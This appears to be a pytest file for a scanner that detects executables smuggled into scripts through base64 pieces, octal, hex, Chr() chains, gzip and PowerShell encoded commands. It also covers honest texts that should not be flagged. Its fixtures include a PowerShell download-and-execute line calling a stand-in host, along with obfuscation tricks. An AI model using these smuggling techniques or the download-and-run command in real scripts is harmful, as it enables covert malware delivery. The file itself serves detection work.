"""Programs spelled in scripts: found; the same in what carries files for others: noted."""

import base64

import pytest

from samples import builders as b
from samples.smuggling import pieces, spellings
from scanners.smuggling.spelled import SpelledScanner
from scanners.smuggling.spellings import LONGEST
from tests.scanners.conftest import Examine
from tests.scanners.smuggling.conftest import Look

PE = b.pe()
LETTERS = base64.b64encode(PE)
EMBEDDED, SCRIPT = "embedded.executable", "container.script"
PLAIN = b"$b = [Convert]::FromBase64String('" + LETTERS + b"')\n"
TEXTS = spellings(PE)


def command(text: str) -> bytes:
    return b"powershell -NoP -EncodedCommand " + base64.b64encode(text.encode("utf-16-le")) + b"\n"


ELF = b.elf([bytes(range(256))])
JUNK = pieces(LETTERS, 5, b"@")
MORE = {
    "letters to be taken out": (b"$s = '" + JUNK + b"'.Replace('@', '')\niex $s\n", PE),
    "variable of a batch file": (
        b"set s=" + pieces(LETTERS, 60, b"\r\nset s=%s%") + b"\r\ncertutil -decode x y\r\n", PE),
    "a statement for each piece": (
        b"f.Write " + pieces(b"&".join(b"Chr(%d)" % c for c in PE), 180, b"").replace(
            b"&Chr(0)&Chr(0)&", b"\r\nf.Write Chr(0)&Chr(0)&") + b"\r\nCreateObject(x)", PE),
    "attributes": (b"<p a='" + pieces(LETTERS, 90, b"' data-b='") + b"'>atob(x)", PE),
    "packed": (
        b"iex $x; $s='" + pieces(base64.b64encode(b.gzip(PE)), 30, b"'+'") + b"'\n", PE),
    "string of Python": (b"open('a', 'wb').write(" + repr(PE + b"'\"").encode() + b")\n", PE),
    "octal": (b"createObject(x); s = '" + b"".join(b"\\%03o" % c for c in PE) + b"'", PE),
    "ELF in a string": (
        b"printf '" + b"".join(b"\\x%02x" % c for c in ELF) + b"'; chmod 777 a", ELF),
    "ELF in pieces": (b"base64 -d <<< '" + pieces(base64.b64encode(ELF), 30, b"' + '") + b"'", ELF),
}  # fmt: skip


@pytest.mark.parametrize("case", MORE)
def test_more_spellings(look: Look, case: str) -> None:
    text, program = MORE[case]
    codes, children = look(SpelledScanner(), text)
    assert codes == {EMBEDDED}
    assert program in [child[: len(program)] for child in children]


@pytest.mark.parametrize("name", TEXTS)
def test_every_spelling(look: Look, name: str) -> None:
    codes, children = look(SpelledScanner(), TEXTS[name])
    assert codes == {EMBEDDED}
    assert [child[: len(PE)] for child in children] == ([] if name == "trusted.crt" else [PE])


def test_plain_base64_is_told_and_left_to_the_other_scanner(look: Look) -> None:
    assert look(SpelledScanner(), PLAIN) == ({EMBEDDED}, [])


def test_wide_texts_are_read_as_well(look: Look) -> None:
    assert look(SpelledScanner(), PLAIN.decode().encode("utf-16"))[0] == {EMBEDDED}


HONEST = {
    "field of an interface": (b'{"f": "' + LETTERS + b'"}', {EMBEDDED + "?"}),
    "field of markup": (b'<?xml version="1.0"?><f>' + LETTERS + b"</f>", {EMBEDDED + "?"}),
    "text without a script": (b"Here it is:\n" + LETTERS + b"\n", {EMBEDDED + "?"}),
    "source of a table": (
        b"x = {" + b",".join(b"0x%02x" % c for c in PE) + b"};",
        {EMBEDDED + "?"},
    ),
    "mail": (b"From: a\nTo: b\nMIME-Version: 1.0\nSubject: c\n\n" + LETTERS + b"\n", set()),
    "body in parts": (b"--x\nContent-Type: a/b\n\n" + LETTERS + b"\n--x--\n", set()),
    "a few letters": (b"[Convert]::FromBase64String('TVqQAAMAAAAEAAAA')" + b" " * 200, set()),
    "hex of other data": (b"x = '4d5a" + bytes(900).hex().encode() + b"'", set()),
    "numbers": (b"77,90,1,2,3\n" * 3000, set()),
    "certificate": (b"-----BEGIN CERTIFICATE-----\nMIIB" + LETTERS[4:] + b"\n", set()),
    "script without one": (b.script() * 9, set()),
    "binary": (PE, set()),
}


@pytest.mark.parametrize("case", HONEST)
def test_honest_texts(look: Look, case: str) -> None:
    text, expected = HONEST[case]
    assert look(SpelledScanner(), text)[0] == expected


def test_packed_in_one_run_is_another_scanners(look: Look, run: Examine) -> None:
    text = b"iex $x; $s='" + base64.b64encode(b.gzip(PE)) + b"'\n"
    assert look(SpelledScanner(), text) == ({EMBEDDED}, [])
    types = run(text).types
    assert types is not None
    (packed,) = types.children
    assert [child.file_type.name for child in packed.children] == ["pe"]


def test_an_encoded_command(look: Look) -> None:
    fetch = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid')"
    codes, (child,) = look(SpelledScanner(), command(fetch))
    assert codes == {SCRIPT}
    assert child == fetch.encode()
    for way in (b"/enc", b"-^e^nc", "–en".encode(), b"\x96EncodedCommand"):
        assert look(SpelledScanner(), command(fetch).replace(b"-EncodedCommand", way))[0] == {
            SCRIPT
        }
    assert look(SpelledScanner(), command("Get-ChildItem -Path . -Recurse"))[0] == {SCRIPT + "?"}
    other = (
        b"tar -extract " + base64.b64encode(b"no wide text at all, but long enough") + b"\n" * 99
    )
    assert look(SpelledScanner(), other)[0] == set()


def test_coded_content_is_left_alone(look: Look) -> None:
    assert look(SpelledScanner(), PLAIN, codings=("gzip",)) == (set(), [])
    assert look(SpelledScanner(), PLAIN, declared_type="multipart/mixed") == (set(), [])


def test_programs_beyond_the_limit_are_a_gap(look: Look) -> None:
    split = pieces(LETTERS, 50, b"' + '")
    codes, children = look(SpelledScanner(), b"\n;; ".join([b"x = '" + split + b"'"] * 120))
    assert {EMBEDDED + "?", "unscanned.too_many"} <= codes
    assert len(children) == 100  # what the budget allows


def test_a_program_longer_than_what_is_read_is_a_gap(look: Look) -> None:
    letters = base64.b64encode(b.pe(size=LONGEST))
    codes, (child,) = look(SpelledScanner(), b"x = '" + pieces(letters, 4000, b"' + '") + b"'")
    assert codes == {EMBEDDED + "?", "unscanned.too_large"}
    assert child.startswith(b.pe(size=LONGEST)[: LONGEST // 2])
